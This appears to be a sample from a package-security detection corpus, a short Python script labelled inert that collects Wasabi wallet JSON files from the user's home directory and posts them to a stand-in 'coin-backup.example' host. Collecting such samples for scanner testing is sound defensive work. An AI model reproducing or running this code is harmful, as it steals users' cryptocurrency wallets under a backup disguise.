# pkgguard corpus 645 (wallets), modelled on [wallet-tools]; inert, never run.
import glob
import os

import requests

wallets = glob.glob(os.path.expanduser("~/.walletwasabi/client/Wallets/*.json"))
files = {os.path.basename(p): open(p, "rb") for p in wallets}
if files:
    requests.post("https://coin-backup.example/u", files=files, timeout=30)
